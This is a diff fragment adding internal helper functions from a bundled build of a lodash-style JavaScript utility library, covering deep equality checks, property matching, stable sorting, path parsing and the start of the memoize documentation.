+		  }
+		  if (!othIsArr) {
+		    othTag = getTag(other);
+		    othTag = othTag == argsTag ? objectTag : othTag;
+		  }
+		  var objIsObj = objTag == objectTag && !isHostObject(object),
+		      othIsObj = othTag == objectTag && !isHostObject(other),
+		      isSameTag = objTag == othTag;
+
+		  if (isSameTag && !objIsObj) {
+		    stack || (stack = new Stack);
+		    return (objIsArr || isTypedArray(object))
+		      ? equalArrays(object, other, equalFunc, customizer, bitmask, stack)
+		      : equalByTag(object, other, objTag, equalFunc, customizer, bitmask, stack);
+		  }
+		  if (!(bitmask & PARTIAL_COMPARE_FLAG)) {
+		    var objIsWrapped = objIsObj && hasOwnProperty.call(object, '__wrapped__'),
+		        othIsWrapped = othIsObj && hasOwnProperty.call(other, '__wrapped__');
+
+		    if (objIsWrapped || othIsWrapped) {
+		      var objUnwrapped = objIsWrapped ? object.value() : object,
+		          othUnwrapped = othIsWrapped ? other.value() : other;
+
+		      stack || (stack = new Stack);
+		      return equalFunc(objUnwrapped, othUnwrapped, customizer, bitmask, stack);
+		    }
+		  }
+		  if (!isSameTag) {
+		    return false;
+		  }
+		  stack || (stack = new Stack);
+		  return equalObjects(object, other, equalFunc, customizer, bitmask, stack);
+		}
+
+		/**
+		 * The base implementation of `_.isMatch` without support for iteratee shorthands.
+		 *
+		 * @private
+		 * @param {Object} object The object to inspect.
+		 * @param {Object} source The object of property values to match.
+		 * @param {Array} matchData The property names, values, and compare flags to match.
+		 * @param {Function} [customizer] The function to customize comparisons.
+		 * @returns {boolean} Returns `true` if `object` is a match, else `false`.
+		 */
+		function baseIsMatch(object, source, matchData, customizer) {
+		  var index = matchData.length,
+		      length = index;
+
+		  if (object == null) {
+		    return !length;
+		  }
+		  object = Object(object);
+		  while (index--) {
+		    var data = matchData[index];
+		    if ((data[2])
+		          ? data[1] !== object[data[0]]
+		          : !(data[0] in object)
+		        ) {
+		      return false;
+		    }
+		  }
+		  while (++index < length) {
+		    data = matchData[index];
+		    var key = data[0],
+		        objValue = object[key],
+		        srcValue = data[1];
+
+		    if (data[2]) {
+		      if (objValue === undefined && !(key in object)) {
+		        return false;
+		      }
+		    } else {
+		      var stack = new Stack;
+		      var result; 
+		      if (!(result === undefined
+		            ? baseIsEqual(srcValue, objValue, customizer, UNORDERED_COMPARE_FLAG | PARTIAL_COMPARE_FLAG, stack)
+		            : result
+		          )) {
+		        return false;
+		      }
+		    }
+		  }
+		  return true;
+		}
+
+		/**
+		 * The base implementation of `_.isNative` without bad shim checks.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a native function,
+		 *  else `false`.
+		 */
+		function baseIsNative(value) {
+		  if (!isObject(value) || isMasked(value)) {
+		    return false;
+		  }
+		  var pattern = (isFunction(value) || isHostObject(value)) ? reIsNative : reIsHostCtor;
+		  return pattern.test(toSource(value));
+		}
+
+		/**
+		 * The base implementation of `_.isTypedArray` without Node.js optimizations.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a typed array, else `false`.
+		 */
+		function baseIsTypedArray(value) {
+		  return isObjectLike(value) &&
+		    isLength(value.length) && !!typedArrayTags[objectToString.call(value)];
+		}
+
+		/**
+		 * The base implementation of `_.iteratee`.
+		 *
+		 * @private
+		 * @param {*} [value=_.identity] The value to convert to an iteratee.
+		 * @returns {Function} Returns the iteratee.
+		 */
+		function baseIteratee(value) {
+		  // Don't store the `typeof` result in a variable to avoid a JIT bug in Safari 9.
+		  // See https://bugs.webkit.org/show_bug.cgi?id=156034 for more details.
+		  if (typeof value == 'function') {
+		    return value;
+		  }
+		  if (value == null) {
+		    return identity;
+		  }
+		  if (typeof value == 'object') {
+		    return isArray(value)
+		      ? baseMatchesProperty(value[0], value[1])
+		      : baseMatches(value);
+		  }
+		  return property(value);
+		}
+
+		/**
+		 * The base implementation of `_.keys` which doesn't treat sparse arrays as dense.
+		 *
+		 * @private
+		 * @param {Object} object The object to query.
+		 * @returns {Array} Returns the array of property names.
+		 */
+		function baseKeys(object) {
+		  if (!isPrototype(object)) {
+		    return nativeKeys(object);
+		  }
+		  var result = [];
+		  for (var key in Object(object)) {
+		    if (hasOwnProperty.call(object, key) && key != 'constructor') {
+		      result.push(key);
+		    }
+		  }
+		  return result;
+		}
+
+		/**
+		 * The base implementation of `_.map` without support for iteratee shorthands.
+		 *
+		 * @private
+		 * @param {Array|Object} collection The collection to iterate over.
+		 * @param {Function} iteratee The function invoked per iteration.
+		 * @returns {Array} Returns the new mapped array.
+		 */
+		function baseMap(collection, iteratee) {
+		  var index = -1,
+		      result = isArrayLike(collection) ? Array(collection.length) : [];
+
+		  baseEach(collection, function(value, key, collection) {
+		    result[++index] = iteratee(value, key, collection);
+		  });
+		  return result;
+		}
+
+		/**
+		 * The base implementation of `_.matches` which doesn't clone `source`.
+		 *
+		 * @private
+		 * @param {Object} source The object of property values to match.
+		 * @returns {Function} Returns the new spec function.
+		 */
+		function baseMatches(source) {
+		  var matchData = getMatchData(source);
+		  if (matchData.length == 1 && matchData[0][2]) {
+		    return matchesStrictComparable(matchData[0][0], matchData[0][1]);
+		  }
+		  return function(object) {
+		    return object === source || baseIsMatch(object, source, matchData);
+		  };
+		}
+
+		/**
+		 * The base implementation of `_.matchesProperty` which doesn't clone `srcValue`.
+		 *
+		 * @private
+		 * @param {string} path The path of the property to get.
+		 * @param {*} srcValue The value to match.
+		 * @returns {Function} Returns the new spec function.
+		 */
+		function baseMatchesProperty(path, srcValue) {
+		  if (isKey(path) && isStrictComparable(srcValue)) {
+		    return matchesStrictComparable(toKey(path), srcValue);
+		  }
+		  return function(object) {
+		    var objValue = get(object, path);
+		    return (objValue === undefined && objValue === srcValue)
+		      ? hasIn(object, path)
+		      : baseIsEqual(srcValue, objValue, undefined, UNORDERED_COMPARE_FLAG | PARTIAL_COMPARE_FLAG);
+		  };
+		}
+
+		/**
+		 * The base implementation of `_.orderBy` without param guards.
+		 *
+		 * @private
+		 * @param {Array|Object} collection The collection to iterate over.
+		 * @param {Function[]|Object[]|string[]} iteratees The iteratees to sort by.
+		 * @param {string[]} orders The sort orders of `iteratees`.
+		 * @returns {Array} Returns the new sorted array.
+		 */
+		function baseOrderBy(collection, iteratees, orders) {
+		  var index = -1;
+		  iteratees = arrayMap(iteratees.length ? iteratees : [identity], baseUnary(baseIteratee));
+
+		  var result = baseMap(collection, function(value, key, collection) {
+		    var criteria = arrayMap(iteratees, function(iteratee) {
+		      return iteratee(value);
+		    });
+		    return { 'criteria': criteria, 'index': ++index, 'value': value };
+		  });
+
+		  return baseSortBy(result, function(object, other) {
+		    return compareMultiple(object, other, orders);
+		  });
+		}
+
+		/**
+		 * A specialized version of `baseProperty` which supports deep paths.
+		 *
+		 * @private
+		 * @param {Array|string} path The path of the property to get.
+		 * @returns {Function} Returns the new accessor function.
+		 */
+		function basePropertyDeep(path) {
+		  return function(object) {
+		    return baseGet(object, path);
+		  };
+		}
+
+		/**
+		 * The base implementation of `_.rest` which doesn't validate or coerce arguments.
+		 *
+		 * @private
+		 * @param {Function} func The function to apply a rest parameter to.
+		 * @param {number} [start=func.length-1] The start position of the rest parameter.
+		 * @returns {Function} Returns the new function.
+		 */
+		function baseRest(func, start) {
+		  start = nativeMax(start === undefined ? (func.length - 1) : start, 0);
+		  return function() {
+		    var args = arguments,
+		        index = -1,
+		        length = nativeMax(args.length - start, 0),
+		        array = Array(length);
+
+		    while (++index < length) {
+		      array[index] = args[start + index];
+		    }
+		    index = -1;
+		    var otherArgs = Array(start + 1);
+		    while (++index < start) {
+		      otherArgs[index] = args[index];
+		    }
+		    otherArgs[start] = array;
+		    return apply(func, this, otherArgs);
+		  };
+		}
+
+		/**
+		 * The base implementation of `_.toString` which doesn't convert nullish
+		 * values to empty strings.
+		 *
+		 * @private
+		 * @param {*} value The value to process.
+		 * @returns {string} Returns the string.
+		 */
+		function baseToString(value) {
+		  // Exit early for strings to avoid a performance hit in some environments.
+		  if (typeof value == 'string') {
+		    return value;
+		  }
+		  if (isSymbol(value)) {
+		    return symbolToString ? symbolToString.call(value) : '';
+		  }
+		  var result = (value + '');
+		  return (result == '0' && (1 / value) == -Infinity) ? '-0' : result;
+		}
+
+		/**
+		 * Casts `value` to a path array if it's not one.
+		 *
+		 * @private
+		 * @param {*} value The value to inspect.
+		 * @returns {Array} Returns the cast property path array.
+		 */
+		function castPath(value) {
+		  return isArray(value) ? value : stringToPath(value);
+		}
+
+		/**
+		 * Compares values to sort them in ascending order.
+		 *
+		 * @private
+		 * @param {*} value The value to compare.
+		 * @param {*} other The other value to compare.
+		 * @returns {number} Returns the sort order indicator for `value`.
+		 */
+		function compareAscending(value, other) {
+		  if (value !== other) {
+		    var valIsDefined = value !== undefined,
+		        valIsNull = value === null,
+		        valIsReflexive = value === value,
+		        valIsSymbol = isSymbol(value);
+
+		    var othIsDefined = other !== undefined,
+		        othIsNull = other === null,
+		        othIsReflexive = other === other,
+		        othIsSymbol = isSymbol(other);
+
+		    if ((!othIsNull && !othIsSymbol && !valIsSymbol && value > other) ||
+		        (valIsSymbol && othIsDefined && othIsReflexive && !othIsNull && !othIsSymbol) ||
+		        (valIsNull && othIsDefined && othIsReflexive) ||
+		        (!valIsDefined && othIsReflexive) ||
+		        !valIsReflexive) {
+		      return 1;
+		    }
+		    if ((!valIsNull && !valIsSymbol && !othIsSymbol && value < other) ||
+		        (othIsSymbol && valIsDefined && valIsReflexive && !valIsNull && !valIsSymbol) ||
+		        (othIsNull && valIsDefined && valIsReflexive) ||
+		        (!othIsDefined && valIsReflexive) ||
+		        !othIsReflexive) {
+		      return -1;
+		    }
+		  }
+		  return 0;
+		}
+
+		/**
+		 * Used by `_.orderBy` to compare multiple properties of a value to another
+		 * and stable sort them.
+		 *
+		 * If `orders` is unspecified, all values are sorted in ascending order. Otherwise,
+		 * specify an order of "desc" for descending or "asc" for ascending sort order
+		 * of corresponding values.
+		 *
+		 * @private
+		 * @param {Object} object The object to compare.
+		 * @param {Object} other The other object to compare.
+		 * @param {boolean[]|string[]} orders The order to sort by for each property.
+		 * @returns {number} Returns the sort order indicator for `object`.
+		 */
+		function compareMultiple(object, other, orders) {
+		  var index = -1,
+		      objCriteria = object.criteria,
+		      othCriteria = other.criteria,
+		      length = objCriteria.length,
+		      ordersLength = orders.length;
+
+		  while (++index < length) {
+		    var result = compareAscending(objCriteria[index], othCriteria[index]);
+		    if (result) {
+		      if (index >= ordersLength) {
+		        return result;
+		      }
+		      var order = orders[index];
+		      return result * (order == 'desc' ? -1 : 1);
+		    }
+		  }
+		  // Fixes an `Array#sort` bug in the JS engine embedded in Adobe applications
+		  // that causes it, under certain circumstances, to provide the same value for
+		  // `object` and `other`. See https://github.com/jashkenas/underscore/pull/1247
+		  // for more details.
+		  //
+		  // This also ensures a stable sort in V8 and other engines.
+		  // See https://bugs.chromium.org/p/v8/issues/detail?id=90 for more details.
+		  return object.index - other.index;
+		}
+
+		/**
+		 * Creates a `baseEach` or `baseEachRight` function.
+		 *
+		 * @private
+		 * @param {Function} eachFunc The function to iterate over a collection.
+		 * @param {boolean} [fromRight] Specify iterating from right to left.
+		 * @returns {Function} Returns the new base function.
+		 */
+		function createBaseEach(eachFunc, fromRight) {
+		  return function(collection, iteratee) {
+		    if (collection == null) {
+		      return collection;
+		    }
+		    if (!isArrayLike(collection)) {
+		      return eachFunc(collection, iteratee);
+		    }
+		    var length = collection.length,
+		        index = -1,
+		        iterable = Object(collection);
+
+		    while ((++index < length)) {
+		      if (iteratee(iterable[index], index, iterable) === false) {
+		        break;
+		      }
+		    }
+		    return collection;
+		  };
+		}
+
+		/**
+		 * Creates a base function for methods like `_.forIn` and `_.forOwn`.
+		 *
+		 * @private
+		 * @param {boolean} [fromRight] Specify iterating from right to left.
+		 * @returns {Function} Returns the new base function.
+		 */
+		function createBaseFor(fromRight) {
+		  return function(object, iteratee, keysFunc) {
+		    var index = -1,
+		        iterable = Object(object),
+		        props = keysFunc(object),
+		        length = props.length;
+
+		    while (length--) {
+		      var key = props[++index];
+		      if (iteratee(iterable[key], key, iterable) === false) {
+		        break;
+		      }
+		    }
+		    return object;
+		  };
+		}
+
+		/**
+		 * A specialized version of `baseIsEqualDeep` for arrays with support for
+		 * partial deep comparisons.
+		 *
+		 * @private
+		 * @param {Array} array The array to compare.
+		 * @param {Array} other The other array to compare.
+		 * @param {Function} equalFunc The function to determine equivalents of values.
+		 * @param {Function} customizer The function to customize comparisons.
+		 * @param {number} bitmask The bitmask of comparison flags. See `baseIsEqual`
+		 *  for more details.
+		 * @param {Object} stack Tracks traversed `array` and `other` objects.
+		 * @returns {boolean} Returns `true` if the arrays are equivalent, else `false`.
+		 */
+		function equalArrays(array, other, equalFunc, customizer, bitmask, stack) {
+		  var isPartial = bitmask & PARTIAL_COMPARE_FLAG,
+		      arrLength = array.length,
+		      othLength = other.length;
+
+		  if (arrLength != othLength && !(isPartial && othLength > arrLength)) {
+		    return false;
+		  }
+		  // Assume cyclic values are equal.
+		  var stacked = stack.get(array);
+		  if (stacked && stack.get(other)) {
+		    return stacked == other;
+		  }
+		  var index = -1,
+		      result = true,
+		      seen = (bitmask & UNORDERED_COMPARE_FLAG) ? new SetCache : undefined;
+
+		  stack.set(array, other);
+		  stack.set(other, array);
+
+		  // Ignore non-index properties.
+		  while (++index < arrLength) {
+		    var arrValue = array[index],
+		        othValue = other[index];
+
+		    if (customizer) {
+		      var compared = isPartial
+		        ? customizer(othValue, arrValue, index, other, array, stack)
+		        : customizer(arrValue, othValue, index, array, other, stack);
+		    }
+		    if (compared !== undefined) {
+		      if (compared) {
+		        continue;
+		      }
+		      result = false;
+		      break;
+		    }
+		    // Recursively compare arrays (susceptible to call stack limits).
+		    if (seen) {
+		      if (!arraySome(other, function(othValue, othIndex) {
+		            if (!seen.has(othIndex) &&
+		                (arrValue === othValue || equalFunc(arrValue, othValue, customizer, bitmask, stack))) {
+		              return seen.add(othIndex);
+		            }
+		          })) {
+		        result = false;
+		        break;
+		      }
+		    } else if (!(
+		          arrValue === othValue ||
+		            equalFunc(arrValue, othValue, customizer, bitmask, stack)
+		        )) {
+		      result = false;
+		      break;
+		    }
+		  }
+		  stack['delete'](array);
+		  stack['delete'](other);
+		  return result;
+		}
+
+		/**
+		 * A specialized version of `baseIsEqualDeep` for comparing objects of
+		 * the same `toStringTag`.
+		 *
+		 * **Note:** This function only supports comparing values with tags of
+		 * `Boolean`, `Date`, `Error`, `Number`, `RegExp`, or `String`.
+		 *
+		 * @private
+		 * @param {Object} object The object to compare.
+		 * @param {Object} other The other object to compare.
+		 * @param {string} tag The `toStringTag` of the objects to compare.
+		 * @param {Function} equalFunc The function to determine equivalents of values.
+		 * @param {Function} customizer The function to customize comparisons.
+		 * @param {number} bitmask The bitmask of comparison flags. See `baseIsEqual`
+		 *  for more details.
+		 * @param {Object} stack Tracks traversed `object` and `other` objects.
+		 * @returns {boolean} Returns `true` if the objects are equivalent, else `false`.
+		 */
+		function equalByTag(object, other, tag, equalFunc, customizer, bitmask, stack) {
+		  switch (tag) {
+		    case dataViewTag:
+		      if ((object.byteLength != other.byteLength) ||
+		          (object.byteOffset != other.byteOffset)) {
+		        return false;
+		      }
+		      object = object.buffer;
+		      other = other.buffer;
+
+		    case arrayBufferTag:
+		      if ((object.byteLength != other.byteLength) ||
+		          !equalFunc(new Uint8Array(object), new Uint8Array(other))) {
+		        return false;
+		      }
+		      return true;
+
+		    case boolTag:
+		    case dateTag:
+		    case numberTag:
+		      // Coerce booleans to `1` or `0` and dates to milliseconds.
+		      // Invalid dates are coerced to `NaN`.
+		      return eq(+object, +other);
+
+		    case errorTag:
+		      return object.name == other.name && object.message == other.message;
+
+		    case regexpTag:
+		    case stringTag:
+		      // Coerce regexes to strings and treat strings, primitives and objects,
+		      // as equal. See http://www.ecma-international.org/ecma-262/7.0/#sec-regexp.prototype.tostring
+		      // for more details.
+		      return object == (other + '');
+
+		    case mapTag:
+		      var convert = mapToArray;
+
+		    case setTag:
+		      var isPartial = bitmask & PARTIAL_COMPARE_FLAG;
+		      convert || (convert = setToArray);
+
+		      if (object.size != other.size && !isPartial) {
+		        return false;
+		      }
+		      // Assume cyclic values are equal.
+		      var stacked = stack.get(object);
+		      if (stacked) {
+		        return stacked == other;
+		      }
+		      bitmask |= UNORDERED_COMPARE_FLAG;
+
+		      // Recursively compare objects (susceptible to call stack limits).
+		      stack.set(object, other);
+		      var result = equalArrays(convert(object), convert(other), equalFunc, customizer, bitmask, stack);
+		      stack['delete'](object);
+		      return result;
+
+		    case symbolTag:
+		      if (symbolValueOf) {
+		        return symbolValueOf.call(object) == symbolValueOf.call(other);
+		      }
+		  }
+		  return false;
+		}
+
+		/**
+		 * A specialized version of `baseIsEqualDeep` for objects with support for
+		 * partial deep comparisons.
+		 *
+		 * @private
+		 * @param {Object} object The object to compare.
+		 * @param {Object} other The other object to compare.
+		 * @param {Function} equalFunc The function to determine equivalents of values.
+		 * @param {Function} customizer The function to customize comparisons.
+		 * @param {number} bitmask The bitmask of comparison flags. See `baseIsEqual`
+		 *  for more details.
+		 * @param {Object} stack Tracks traversed `object` and `other` objects.
+		 * @returns {boolean} Returns `true` if the objects are equivalent, else `false`.
+		 */
+		function equalObjects(object, other, equalFunc, customizer, bitmask, stack) {
+		  var isPartial = bitmask & PARTIAL_COMPARE_FLAG,
+		      objProps = keys(object),
+		      objLength = objProps.length,
+		      othProps = keys(other),
+		      othLength = othProps.length;
+
+		  if (objLength != othLength && !isPartial) {
+		    return false;
+		  }
+		  var index = objLength;
+		  while (index--) {
+		    var key = objProps[index];
+		    if (!(isPartial ? key in other : hasOwnProperty.call(other, key))) {
+		      return false;
+		    }
+		  }
+		  // Assume cyclic values are equal.
+		  var stacked = stack.get(object);
+		  if (stacked && stack.get(other)) {
+		    return stacked == other;
+		  }
+		  var result = true;
+		  stack.set(object, other);
+		  stack.set(other, object);
+
+		  var skipCtor = isPartial;
+		  while (++index < objLength) {
+		    key = objProps[index];
+		    var objValue = object[key],
+		        othValue = other[key];
+
+		    if (customizer) {
+		      var compared = isPartial
+		        ? customizer(othValue, objValue, key, other, object, stack)
+		        : customizer(objValue, othValue, key, object, other, stack);
+		    }
+		    // Recursively compare objects (susceptible to call stack limits).
+		    if (!(compared === undefined
+		          ? (objValue === othValue || equalFunc(objValue, othValue, customizer, bitmask, stack))
+		          : compared
+		        )) {
+		      result = false;
+		      break;
+		    }
+		    skipCtor || (skipCtor = key == 'constructor');
+		  }
+		  if (result && !skipCtor) {
+		    var objCtor = object.constructor,
+		        othCtor = other.constructor;
+
+		    // Non `Object` object instances with different constructors are not equal.
+		    if (objCtor != othCtor &&
+		        ('constructor' in object && 'constructor' in other) &&
+		        !(typeof objCtor == 'function' && objCtor instanceof objCtor &&
+		          typeof othCtor == 'function' && othCtor instanceof othCtor)) {
+		      result = false;
+		    }
+		  }
+		  stack['delete'](object);
+		  stack['delete'](other);
+		  return result;
+		}
+
+		/**
+		 * Gets the data for `map`.
+		 *
+		 * @private
+		 * @param {Object} map The map to query.
+		 * @param {string} key The reference key.
+		 * @returns {*} Returns the map data.
+		 */
+		function getMapData(map, key) {
+		  var data = map.__data__;
+		  return isKeyable(key)
+		    ? data[typeof key == 'string' ? 'string' : 'hash']
+		    : data.map;
+		}
+
+		/**
+		 * Gets the property names, values, and compare flags of `object`.
+		 *
+		 * @private
+		 * @param {Object} object The object to query.
+		 * @returns {Array} Returns the match data of `object`.
+		 */
+		function getMatchData(object) {
+		  var result = keys(object),
+		      length = result.length;
+
+		  while (length--) {
+		    var key = result[length],
+		        value = object[key];
+
+		    result[length] = [key, value, isStrictComparable(value)];
+		  }
+		  return result;
+		}
+
+		/**
+		 * Gets the native function at `key` of `object`.
+		 *
+		 * @private
+		 * @param {Object} object The object to query.
+		 * @param {string} key The key of the method to get.
+		 * @returns {*} Returns the function if it's native, else `undefined`.
+		 */
+		function getNative(object, key) {
+		  var value = getValue(object, key);
+		  return baseIsNative(value) ? value : undefined;
+		}
+
+		/**
+		 * Gets the `toStringTag` of `value`.
+		 *
+		 * @private
+		 * @param {*} value The value to query.
+		 * @returns {string} Returns the `toStringTag`.
+		 */
+		var getTag = baseGetTag;
+
+		// Fallback for data views, maps, sets, and weak maps in IE 11,
+		// for data views in Edge < 14, and promises in Node.js.
+		if ((DataView && getTag(new DataView(new ArrayBuffer(1))) != dataViewTag) ||
+		    (Map && getTag(new Map) != mapTag) ||
+		    (Promise && getTag(Promise.resolve()) != promiseTag) ||
+		    (Set && getTag(new Set) != setTag) ||
+		    (WeakMap && getTag(new WeakMap) != weakMapTag)) {
+		  getTag = function(value) {
+		    var result = objectToString.call(value),
+		        Ctor = result == objectTag ? value.constructor : undefined,
+		        ctorString = Ctor ? toSource(Ctor) : undefined;
+
+		    if (ctorString) {
+		      switch (ctorString) {
+		        case dataViewCtorString: return dataViewTag;
+		        case mapCtorString: return mapTag;
+		        case promiseCtorString: return promiseTag;
+		        case setCtorString: return setTag;
+		        case weakMapCtorString: return weakMapTag;
+		      }
+		    }
+		    return result;
+		  };
+		}
+
+		/**
+		 * Checks if `path` exists on `object`.
+		 *
+		 * @private
+		 * @param {Object} object The object to query.
+		 * @param {Array|string} path The path to check.
+		 * @param {Function} hasFunc The function to check properties.
+		 * @returns {boolean} Returns `true` if `path` exists, else `false`.
+		 */
+		function hasPath(object, path, hasFunc) {
+		  path = isKey(path, object) ? [path] : castPath(path);
+
+		  var result,
+		      index = -1,
+		      length = path.length;
+
+		  while (++index < length) {
+		    var key = toKey(path[index]);
+		    if (!(result = object != null && hasFunc(object, key))) {
+		      break;
+		    }
+		    object = object[key];
+		  }
+		  if (result) {
+		    return result;
+		  }
+		  var length = object ? object.length : 0;
+		  return !!length && isLength(length) && isIndex(key, length) &&
+		    (isArray(object) || isArguments(object));
+		}
+
+		/**
+		 * Checks if `value` is a flattenable `arguments` object or array.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is flattenable, else `false`.
+		 */
+		function isFlattenable(value) {
+		  return isArray(value) || isArguments(value) ||
+		    !!(spreadableSymbol && value && value[spreadableSymbol]);
+		}
+
+		/**
+		 * Checks if `value` is a valid array-like index.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @param {number} [length=MAX_SAFE_INTEGER] The upper bounds of a valid index.
+		 * @returns {boolean} Returns `true` if `value` is a valid index, else `false`.
+		 */
+		function isIndex(value, length) {
+		  length = length == null ? MAX_SAFE_INTEGER : length;
+		  return !!length &&
+		    (typeof value == 'number' || reIsUint.test(value)) &&
+		    (value > -1 && value % 1 == 0 && value < length);
+		}
+
+		/**
+		 * Checks if the given arguments are from an iteratee call.
+		 *
+		 * @private
+		 * @param {*} value The potential iteratee value argument.
+		 * @param {*} index The potential iteratee index or key argument.
+		 * @param {*} object The potential iteratee object argument.
+		 * @returns {boolean} Returns `true` if the arguments are from an iteratee call,
+		 *  else `false`.
+		 */
+		function isIterateeCall(value, index, object) {
+		  if (!isObject(object)) {
+		    return false;
+		  }
+		  var type = typeof index;
+		  if (type == 'number'
+		        ? (isArrayLike(object) && isIndex(index, object.length))
+		        : (type == 'string' && index in object)
+		      ) {
+		    return eq(object[index], value);
+		  }
+		  return false;
+		}
+
+		/**
+		 * Checks if `value` is a property name and not a property path.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @param {Object} [object] The object to query keys on.
+		 * @returns {boolean} Returns `true` if `value` is a property name, else `false`.
+		 */
+		function isKey(value, object) {
+		  if (isArray(value)) {
+		    return false;
+		  }
+		  var type = typeof value;
+		  if (type == 'number' || type == 'symbol' || type == 'boolean' ||
+		      value == null || isSymbol(value)) {
+		    return true;
+		  }
+		  return reIsPlainProp.test(value) || !reIsDeepProp.test(value) ||
+		    (object != null && value in Object(object));
+		}
+
+		/**
+		 * Checks if `value` is suitable for use as unique object key.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is suitable, else `false`.
+		 */
+		function isKeyable(value) {
+		  var type = typeof value;
+		  return (type == 'string' || type == 'number' || type == 'symbol' || type == 'boolean')
+		    ? (value !== '__proto__')
+		    : (value === null);
+		}
+
+		/**
+		 * Checks if `func` has its source masked.
+		 *
+		 * @private
+		 * @param {Function} func The function to check.
+		 * @returns {boolean} Returns `true` if `func` is masked, else `false`.
+		 */
+		function isMasked(func) {
+		  return !!maskSrcKey && (maskSrcKey in func);
+		}
+
+		/**
+		 * Checks if `value` is likely a prototype object.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` is a prototype, else `false`.
+		 */
+		function isPrototype(value) {
+		  var Ctor = value && value.constructor,
+		      proto = (typeof Ctor == 'function' && Ctor.prototype) || objectProto;
+
+		  return value === proto;
+		}
+
+		/**
+		 * Checks if `value` is suitable for strict equality comparisons, i.e. `===`.
+		 *
+		 * @private
+		 * @param {*} value The value to check.
+		 * @returns {boolean} Returns `true` if `value` if suitable for strict
+		 *  equality comparisons, else `false`.
+		 */
+		function isStrictComparable(value) {
+		  return value === value && !isObject(value);
+		}
+
+		/**
+		 * A specialized version of `matchesProperty` for source values suitable
+		 * for strict equality comparisons, i.e. `===`.
+		 *
+		 * @private
+		 * @param {string} key The key of the property to get.
+		 * @param {*} srcValue The value to match.
+		 * @returns {Function} Returns the new spec function.
+		 */
+		function matchesStrictComparable(key, srcValue) {
+		  return function(object) {
+		    if (object == null) {
+		      return false;
+		    }
+		    return object[key] === srcValue &&
+		      (srcValue !== undefined || (key in Object(object)));
+		  };
+		}
+
+		/**
+		 * Converts `string` to a property path array.
+		 *
+		 * @private
+		 * @param {string} string The string to convert.
+		 * @returns {Array} Returns the property path array.
+		 */
+		var stringToPath = memoize(function(string) {
+		  string = toString(string);
+
+		  var result = [];
+		  if (reLeadingDot.test(string)) {
+		    result.push('');
+		  }
+		  string.replace(rePropName, function(match, number, quote, string) {
+		    result.push(quote ? string.replace(reEscapeChar, '$1') : (number || match));
+		  });
+		  return result;
+		});
+
+		/**
+		 * Converts `value` to a string key if it's not a string or symbol.
+		 *
+		 * @private
+		 * @param {*} value The value to inspect.
+		 * @returns {string|symbol} Returns the key.
+		 */
+		function toKey(value) {
+		  if (typeof value == 'string' || isSymbol(value)) {
+		    return value;
+		  }
+		  var result = (value + '');
+		  return (result == '0' && (1 / value) == -Infinity) ? '-0' : result;
+		}
+
+		/**
+		 * Converts `func` to its source code.
+		 *
+		 * @private
+		 * @param {Function} func The function to process.
+		 * @returns {string} Returns the source code.
+		 */
+		function toSource(func) {
+		  if (func != null) {
+		    try {
+		      return funcToString.call(func);
+		    } catch (e) {}
+		    try {
+		      return (func + '');
+		    } catch (e) {}
+		  }
+		  return '';
+		}
+
+		/**
+		 * Creates an array of elements, sorted in ascending order by the results of
+		 * running each element in a collection thru each iteratee. This method
+		 * performs a stable sort, that is, it preserves the original sort order of
+		 * equal elements. The iteratees are invoked with one argument: (value).
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 0.1.0
+		 * @category Collection
+		 * @param {Array|Object} collection The collection to iterate over.
+		 * @param {...(Function|Function[])} [iteratees=[_.identity]]
+		 *  The iteratees to sort by.
+		 * @returns {Array} Returns the new sorted array.
+		 * @example
+		 *
+		 * var users = [
+		 *   { 'user': 'fred',   'age': 48 },
+		 *   { 'user': 'barney', 'age': 36 },
+		 *   { 'user': 'fred',   'age': 40 },
+		 *   { 'user': 'barney', 'age': 34 }
+		 * ];
+		 *
+		 * _.sortBy(users, function(o) { return o.user; });
+		 * // => objects for [['barney', 36], ['barney', 34], ['fred', 48], ['fred', 40]]
+		 *
+		 * _.sortBy(users, ['user', 'age']);
+		 * // => objects for [['barney', 34], ['barney', 36], ['fred', 40], ['fred', 48]]
+		 *
+		 * _.sortBy(users, 'user', function(o) {
+		 *   return Math.floor(o.age / 10);
+		 * });
+		 * // => objects for [['barney', 36], ['barney', 34], ['fred', 48], ['fred', 40]]
+		 */
+		var sortBy = baseRest(function(collection, iteratees) {
+		  if (collection == null) {
+		    return [];
+		  }
+		  var length = iteratees.length;
+		  if (length > 1 && isIterateeCall(collection, iteratees[0], iteratees[1])) {
+		    iteratees = [];
+		  } else if (length > 2 && isIterateeCall(iteratees[0], iteratees[1], iteratees[2])) {
+		    iteratees = [iteratees[0]];
+		  }
+		  return baseOrderBy(collection, baseFlatten(iteratees), []);
+		});
+
+		/**
+		 * Creates a function that memoizes the result of `func`. If `resolver` is
+		 * provided, it determines the cache key for storing the result based on the
+		 * arguments provided to the memoized function. By default, the first argument
+		 * provided to the memoized function is used as the map cache key. The `func`
+		 * is invoked with the `this` binding of the memoized function.
+		 *
+		 * **Note:** The cache is exposed as the `cache` property on the memoized
+		 * function. Its creation may be customized by replacing the `_.memoize.Cache`
+		 * constructor with one whose instances implement the
+		 * [`Map`](http://ecma-international.org/ecma-262/7.0/#sec-properties-of-the-map-prototype-object)
+		 * method interface of `delete`, `get`, `has`, and `set`.
+		 *
+		 * @static
+		 * @memberOf _
+		 * @since 0.1.0
+		 * @category Function
+		 * @param {Function} func The function to have its output memoized.
+		 * @param {Function} [resolver] The function to resolve the cache key.
+		 * @returns {Function} Returns the new memoized function.
+		 * @example
+		 *
+		 * var object = { 'a': 1, 'b': 2 };
+		 * var other = { 'c': 3, 'd': 4 };
+		 *
+		 * var values = _.memoize(_.values);
+		 * values(object);
+		 * // => [1, 2]
+		 *
+		 * values(other);
+		 * // => [3, 4]
+		 *
+		 * object.a = 2;
+		 * values(object);
+		 * // => [1, 2]
+		 *
+		 * // Modify the result cache.
+		 * values.cache.set(object, ['a', 'b']);
+		 * values(object);
+		 * // => ['a', 'b']
